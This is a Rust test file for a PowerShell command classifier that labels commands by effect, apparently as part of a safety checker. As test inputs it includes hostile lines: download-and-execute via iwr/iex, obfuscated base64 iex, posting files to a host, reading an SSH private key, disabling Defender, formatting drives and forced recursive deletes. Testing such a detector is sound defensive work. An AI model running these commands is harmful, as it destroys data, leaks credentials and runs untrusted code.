use super::super::testing::check;
use crate::world::Language;

#[test]
fn files_are_deleted_and_written() {
    check(
        Language::PowerShell,
        &[
            (
                "Remove-Item -Recurse -Force C:\\x",
                "$ Remove-Item -Recurse -Force C:\\x | delete remove C:/x certain -r -f",
            ),
            (
                "Remove-Item 'C:\\a b' -Rec -Fo",
                "$ Remove-Item C:\\a b -Rec -Fo | delete remove C:/a b certain -r -f",
            ),
            (
                "rm -r -fo $env:USERPROFILE\\x",
                "$ rm -r -fo C:/Users/me\\x | delete remove C:/Users/me/x certain -r -f",
            ),
            (
                "Get-ChildItem C:\\x -Recurse -Filter *.log | Remove-Item",
                "$ Get-ChildItem C:\\x -Recurse -Filter *.log | $ Remove-Item | delete remove C:/x/**/*.log possible",
            ),
            (
                "gci C:\\x | % { Remove-Item $_.FullName -Force }",
                "$ gci C:\\x | $ % { Remove-Item $_.FullName -Force } | $ Remove-Item C:/x/* -Force | delete remove C:/x/* possible -f",
            ),
            ("Remove-Item x -WhatIf", "$ Remove-Item x -WhatIf"),
            ("ri Env:X", "$ ri Env:X"),
            (
                "Set-Content -Path a.txt -Value 'x'",
                "$ Set-Content -Path a.txt -Value x | overwrite write-file /shop/a.txt certain",
            ),
            (
                "'x' | Out-File a.txt -Append",
                "$ Out-File a.txt -Append | append append-file /shop/a.txt certain",
            ),
            ("echo hi > a.txt", "$ echo hi | overwrite redirect /shop/a.txt certain"),
            (
                "Clear-Content a.txt",
                "$ Clear-Content a.txt | overwrite truncate /shop/a.txt certain",
            ),
            (
                "Copy-Item a b; Move-Item c d",
                "$ Copy-Item a b | $ Move-Item c d | read copy /shop/a certain | write copy /shop/b certain <[File(\"/shop/a\")] | move move /shop/c certain | write move /shop/d certain <[File(\"/shop/c\")]",
            ),
            ("[IO.File]::Delete('C:\\x')", "delete remove C:/x certain"),
            (
                "Get-Content $HOME\\.ssh\\id_rsa",
                "$ Get-Content C:/Users/me\\.ssh\\id_rsa | read read-file C:/Users/me/.ssh/id_rsa certain",
            ),
            (
                "if (Test-Path x) { Remove-Item x }",
                "$ Test-Path x | $ Remove-Item x | delete remove /shop/x possible",
            ),
            (
                "foreach ($f in 'a','b') { Remove-Item $f }",
                "$ Remove-Item a | $ Remove-Item b | delete remove /shop/a certain | delete remove /shop/b certain",
            ),
        ],
    );
}

#[test]
fn code_comes_from_elsewhere() {
    check(
        Language::PowerShell,
        &[
            (
                "iwr http://h/x.ps1 | iex",
                "$ iwr http://h/x.ps1 | $ iex | receive http http://h/x.ps1 certain | execute network-code iex certain <[Network(\"http://h/x.ps1\")]",
            ),
            (
                "IEX (New-Object Net.WebClient).DownloadString('http://h/x')",
                "$ New-Object Net.WebClient | $ IEX … | receive http http://h/x certain | execute network-code iex certain <[Network(\"http://h/x\")]",
            ),
            (
                "iex (irm http://h/x)",
                "$ irm http://h/x | $ iex … | receive http http://h/x certain | execute network-code iex certain <[Network(\"http://h/x\")]",
            ),
            (
                "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLUl0ZW0geA==')))",
                "$ iex Remove-Item x | $ Remove-Item x | execute decoded-code iex certain <[Decoded] | delete remove /shop/x certain",
            ),
            (
                "iex ('Remove' + '-Item x')",
                "$ iex Remove-Item x | $ Remove-Item x | delete remove /shop/x certain",
            ),
            ("& ('Remove-' + 'Item') x", "$ Remove-Item x | delete remove /shop/x certain"),
            (
                "iwr http://h/x.exe -OutFile x.exe; Start-Process x.exe",
                "$ iwr http://h/x.exe -OutFile x.exe | $ Start-Process x.exe | $ /shop/x.exe | receive http http://h/x.exe certain | overwrite download /shop/x.exe certain <[Network(\"http://h/x.exe\")] | execute network-code x.exe certain <[Network(\"http://h/x.exe\")]",
            ),
            (
                "Invoke-WebRequest -Uri http://h -Method Post -InFile C:\\k",
                "$ Invoke-WebRequest -Uri http://h -Method Post -InFile C:\\k | read read-file C:/k certain | send http http://h certain <[File(\"C:/k\")]",
            ),
            (
                "irm http://h -Method Post -Body (Get-Content C:\\k -Raw)",
                "$ Get-Content C:\\k -Raw | $ irm http://h -Method Post -Body … | read read-file C:/k certain | send http http://h certain <[File(\"C:/k\")]",
            ),
            (
                "Start-Process powershell -Verb RunAs -ArgumentList '-Command Remove-Item x'",
                "$ Start-Process powershell -Verb RunAs -ArgumentList -Command Remove-Item x | $ powershell -Command Remove-Item x | $ Remove-Item x | privilege run-as administrator certain | delete remove /shop/x certain",
            ),
            (
                "cmd /c del /q x; bash -c 'rm -rf y'",
                "$ cmd /c del /q x | $ del /q x | $ rm -rf y | delete remove /shop/x certain -f | delete remove /shop/y certain -r -f",
            ),
        ],
    );
}

#[test]
fn machines_and_settings() {
    check(
        Language::PowerShell,
        &[
            (
                "Format-Volume -DriveLetter D",
                "$ Format-Volume -DriveLetter D | device format D certain",
            ),
            ("Stop-Computer -Force", "$ Stop-Computer -Force | system power-off  certain -f"),
            (
                "Stop-Process -Name explorer -Force",
                "$ Stop-Process -Name explorer -Force | process kill explorer certain -f",
            ),
            (
                "Set-ExecutionPolicy Unrestricted",
                "$ Set-ExecutionPolicy Unrestricted | system execution-policy Unrestricted certain",
            ),
            (
                "Set-MpPreference -DisableRealtimeMonitoring $true",
                "$ Set-MpPreference -DisableRealtimeMonitoring True | system disable-protection  certain",
            ),
            ("gci env:", "$ gci env: | environment-dump print-environment  certain"),
            (
                "Remove-AzResourceGroup -Name rg -Force",
                "$ Remove-AzResourceGroup -Name rg -Force | cloud delete rg certain -f",
            ),
            (
                "git push --force; npm install",
                "$ git push --force | $ npm install | vcs-remote push-force  certain -f | install install-locked  certain",
            ),
            ("Get-Process | Sort-Object CPU", "$ Get-Process | $ Sort-Object CPU"),
            ("Write-Host 'Remove-Item x'", "$ Write-Host Remove-Item x"),
            ("# Remove-Item x\n<# Remove-Item y #> Get-Date", "$ Get-Date"),
        ],
    );
}

#[test]
fn expressions_run_nothing() {
    for text in [
        "$a = 5; $b = 3; $a-$b",
        "$orbit = @(1,2,3); $orbit[0]",
        "\"exit: $LASTEXITCODE\"",
        "[math]::Round(12.345, 2)",
        "(1 + 2) * 3 -ge 4",
        "@{ name = 'rm'; port = 3000 }",
        "$x.y = 1; $h['k'] += 2; $i++",
        "[xml]$p = 1; $p.project.version",
        "'{0:N2}' -f 1.5",
        "$x = 1..10 -join ','",
        "for ($i = 0; $i -lt 3; $i++) { $i }",
        "switch ($x) { 'a' { 1 } default { 2 } }",
        "'{0:P1}' -f (($b-$a)/$a)",
        "$m = $env:MODE ?? 'dev'; $o = ($m -eq 'dev') ? '-w' : '-m'",
        "enum Level { Low = 1; High = 2 }\n[int][Level]::High",
        "class P { [int]$X = 0; P([int]$x) { $this.X = $x } [string] ToString() { return \"$($this.X)\" } }",
        "param([Parameter(Mandatory)][string]$Path, [string[]]$Skip = @('.git'))",
        "$t = @{ a = { 1 }; b = { 2 } }; foreach ($n in $t.Keys) { & $t[$n] }; & $t.a; foreach ($v in $t.Values) { & $v }",
    ] {
        check(Language::PowerShell, &[(text, "")]);
    }
}

#[test]
fn every_choice_is_called() {
    let gone = |words: &str| format!("$ {words} x | delete remove /shop/x possible");
    for text in [
        "$r = if ($a) { 'ri' } else { 'echo' }; & $r x",
        "$r = $a ? 'ri' : 'echo'; & $r x",
        "$r = $a ?? 'ri'; & $r x",
        "$r = @('echo', 'ri'); & $r[$i] x",
        "$t = @{ a = 'echo'; b = 'ri' }; & $t[$k] x",
        "$c = Get-Command echo, ri | Select -First 1; & $c x",
    ] {
        let found = super::super::testing::judged(Language::PowerShell, text);
        assert!(found.contains("delete remove /shop/x possible"), "{text}\n{found}");
    }
    let sure = "$t = @{ a = 'echo'; b = 'ri' }; & $t.b x";
    let found = super::super::testing::judged(Language::PowerShell, sure);
    assert_eq!(found, gone("ri").replace("possible", "certain"));
}

#[test]
fn processes_end_by_any_name() {
    for text in [
        "gps java | kill",
        "(Get-Process java).Kill()",
        "gps java | % Kill",
        "Get-CimInstance Win32_Process -Filter \"Name='java'\" | Invoke-CimMethod -MethodName Terminate",
        "(gwmi Win32_Process -Filter \"Name='java'\").Terminate()",
    ] {
        let found = super::super::testing::judged(Language::PowerShell, text);
        assert!(found.contains("process kill java certain"), "{text}\n{found}");
    }
    let own = "$p = Start-Process node -PassThru; Stop-Process -Id $p.Id";
    assert!(
        super::super::testing::judged(Language::PowerShell, own)
            .contains("process kill $! certain")
    );
}

#[test]
fn code_inside_expressions_is_judged() {
    let gone = "$ Remove-Item x | delete remove /shop/x certain";
    for text in [
        "$x = (Remove-Item x)",
        "$h = @{ a = (Remove-Item x) }",
        "\"$(Remove-Item x)\"",
        "@\"\n$(Remove-Item x)\n\"@",
        "$sb = { Remove-Item x }; & $sb",
        "[void](Remove-Item x)",
    ] {
        check(Language::PowerShell, &[(text, gone)]);
    }
    check(
        Language::PowerShell,
        &[
            ("$x = if (1) { Remove-Item x }", "$ Remove-Item x | delete remove /shop/x possible"),
            (
                "Measure-Command { Remove-Item x }",
                "$ Measure-Command { Remove-Item x } | $ Remove-Item x | delete remove /shop/x certain",
            ),
            (
                "$p = @{ Path = 'x'; Recurse = $true }; Remove-Item @p",
                "$ Remove-Item -path x -recurse True | delete remove /shop/x certain -r",
            ),
            (
                "Get-Process node | Stop-Process -Force",
                "$ Get-Process node | $ Stop-Process -Force | process kill node certain -f",
            ),
        ],
    );
}
